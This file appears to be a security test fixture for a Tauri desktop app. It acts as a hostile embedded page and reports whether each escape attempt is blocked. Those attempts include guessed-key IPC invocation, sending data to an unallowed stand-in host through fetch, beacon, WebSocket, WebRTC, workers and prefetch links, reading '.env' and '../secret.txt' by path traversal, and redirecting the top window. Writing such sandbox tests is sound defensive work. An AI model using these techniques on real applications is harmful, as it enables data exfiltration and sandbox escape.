// What a hostile canvas would try. Each outcome is told to whoever shows it.
// `foreign` is a host that nobody allowed; names below `domain` say what was tried when they are asked
// for.
const { foreign, domain } = document.currentScript.dataset;
const tell = (attack, outcome) => parent.postMessage({ attack, outcome }, '*');
const thrown = (work) => {
	try {
		return String(work());
	} catch (error) {
		return error.name;
	}
};
const refused = (asked) =>
	asked.then(
		(answer) => answer.status,
		() => 'refused'
	);
const call = { values: { name: 'attacked' } };

(async () => {
	tell(
		'own data',
		await fetch('own.json')
			.then((answer) => answer.json())
			.catch(String)
	);
	tell('own module', await import(new URL('own.mjs', location.href)).then((m) => m.own, String));

	tell('internals', typeof window.__TAURI_INTERNALS__);
	window.__TAURI_INTERNALS__?.invoke('project_create', call);
	tell(
		'parent document',
		thrown(() => parent.document.title)
	);
	tell(
		'top address',
		thrown(() => top.location.href)
	);
	tell(
		'storage',
		thrown(() => localStorage.length)
	);
	tell('origin', self.origin);

	// The door that programs of the window use, with a key that had to be guessed.
	const message = JSON.stringify({
		cmd: 'project_create',
		callback: 1,
		error: 2,
		payload: call,
		options: {},
		__TAURI_INVOKE_KEY__: 'guessed'
	});
	thrown(() => window.webkit?.messageHandlers?.ipc?.postMessage(message));
	thrown(() => window.ipc?.postMessage(message));
	thrown(() => parent.postMessage(message, '*'));
	thrown(() => parent.__TAURI_INTERNALS__.invoke('project_create', call));
	const headers = {
		'Content-Type': 'application/json',
		'Tauri-Callback': '1',
		'Tauri-Error': '2',
		'Tauri-Invoke-Key': 'guessed'
	};
	const body = JSON.stringify(call);
	tell(
		'ipc by fetch',
		await refused(
			fetch('ipc://localhost/project_create', {
				method: 'POST',
				headers,
				body
			})
		)
	);
	tell("window's page by fetch", await refused(fetch('tauri://localhost/index.html')));

	tell('foreign by fetch', await refused(fetch(foreign, { mode: 'no-cors' })));
	tell(
		'foreign by image',
		await new Promise((done) => {
			const image = new Image();
			image.onload = () => done('loaded');
			image.onerror = () => done('refused');
			image.src = `${foreign}pixel.png`;
		})
	);
	thrown(() => navigator.sendBeacon(foreign, 'data'));
	tell('foreign by beacon', 'sent or not');
	thrown(() => new WebSocket(foreign.replace('http', 'ws')));
	thrown(() => new EventSource(foreign));
	const kinds = ['preconnect', 'dns-prefetch', 'prefetch', 'prerender', 'preload', 'modulepreload'];
	for (const kind of [...kinds, 'stylesheet', 'icon', 'manifest'])
		for (const to of [foreign, `http://link-${kind}.${domain}/`]) {
			const link = document.createElement('link');
			Object.assign(link, { rel: kind, href: `${to}${kind}` });
			if (kind === 'preload') link.as = 'script';
			document.head.append(link);
		}
	const markup = (name) =>
		['preconnect', 'dns-prefetch', 'prefetch']
			.map(
				(kind) =>
					`<link rel="${kind}" href="//${name}-${kind}.${domain}"><link rel="${kind}" href="${foreign}">`
			)
			.join('');
	document.body.insertAdjacentHTML('beforeend', markup('markup'));
	const within = document.createElement('iframe');
	within.srcdoc = markup('srcdoc');
	document.body.append(within);
	document.body.insertAdjacentHTML(
		'beforeend',
		`<style>@import "${foreign}css"; @font-face { font-family: f; src: url(${foreign}font) }
		 .f { font-family: f; background: url(${foreign}background) }</style><p class="f">x</p>
		 <video src="${foreign}film" poster="${foreign}poster"></video><audio src="${foreign}sound"></audio>
		 <object data="${foreign}object"></object><embed src="${foreign}embed">
		 <img srcset="${foreign}set 1x"><input type="image" src="${foreign}input">
		 <svg><image href="${foreign}svg"/><use href="${foreign}use#x"/></svg>`
	);
	const rules = document.createElement('script');
	rules.type = 'speculationrules';
	const urls = [`${foreign}speculated`, `http://rules.${domain}/`];
	rules.textContent = JSON.stringify({
		prefetch: [{ source: 'list', urls, eagerness: 'immediate' }],
		prerender: [{ source: 'list', urls, eagerness: 'immediate' }]
	});
	document.head.append(rules);

	const [host, port] = new URL(foreign).host.split(':');
	tell(
		'webrtc',
		await (async () => {
			try {
				const iceServers = [
					{ urls: `stun:${host}:${port}` },
					{
						urls: `turn:turn.${domain}:${port}`,
						username: 'u',
						credential: 'c'
					}
				];
				const peer = new RTCPeerConnection({ iceServers });
				peer.createDataChannel('data');
				await peer.setLocalDescription(await peer.createOffer());
				return 'made';
			} catch {
				return 'refused';
			}
		})()
	);
	thrown(() => new WebTransport(`https://${host}:${port}/`));
	thrown(() => fetch(`${foreign}kept`, { method: 'POST', body: 'data', keepalive: true }));
	thrown(() => window.fetchLater?.(`${foreign}later`, { activateAfter: 0 }));
	tell(
		'service worker',
		await Promise.resolve()
			.then(() => navigator.serviceWorker.register('attack.js'))
			.then(
				() => 'registered',
				() => 'refused'
			)
	);
	thrown(() => new SharedWorker(`${foreign}shared.js`));
	const work = `fetch('${foreign}worker').catch(() => 0); try { importScripts('${foreign}imported') } catch {}
		try { new WebSocket('${foreign.replace('http', 'ws')}worker') } catch {}`;
	thrown(() => new Worker(URL.createObjectURL(new Blob([work]))));

	const framed = (address) =>
		new Promise((done) => {
			const frame = document.createElement('iframe');
			frame.src = address;
			frame.onload = () => done('nothing');
			document.body.append(frame);
			setTimeout(() => done('nothing'), 500);
		});
	tell('frame of a foreign page', await framed(foreign));
	tell('frame of the window', await framed('tauri://localhost/index.html'));

	tell('encoded way up', await refused(fetch('%2e%2e%5csecret.txt')));
	tell('encoded slash', await refused(fetch('..%2fsecret.txt')));
	tell('link out', await refused(fetch('link.txt')));
	tell('hidden file', await refused(fetch('.env')));
	tell('plain way up', await refused(fetch('../secret.txt')));

	tell('new window', window.open(foreign) === null ? 'none' : 'opened');
	thrown(() => (top.location.href = foreign));
	thrown(() => top.location.replace(foreign));
	for (const target of ['_top', '_parent', '_blank']) {
		const link = document.createElement('a');
		Object.assign(link, {
			href: foreign,
			target,
			textContent: 'away',
			ping: `${foreign}ping`
		});
		document.body.append(link);
		link.click();
		const form = document.createElement('form');
		Object.assign(form, { action: foreign, target, method: 'post' });
		document.body.append(form);
		form.submit();
	}
	tell('everything tried', true);
	// Last, as this page is gone when it went anywhere.
	const away = (to) => new Promise((done) => setTimeout(done, 300, to()));
	await away(() => {
		const refresh = document.createElement('meta');
		Object.assign(refresh, {
			httpEquiv: 'refresh',
			content: `0; url=${foreign}refresh`
		});
		document.head.append(refresh);
	});
	await away(() => (location.href = `http://address.${domain}/`));
	await away(() => location.assign(`${foreign}assigned`));
	location.href = foreign;
})();
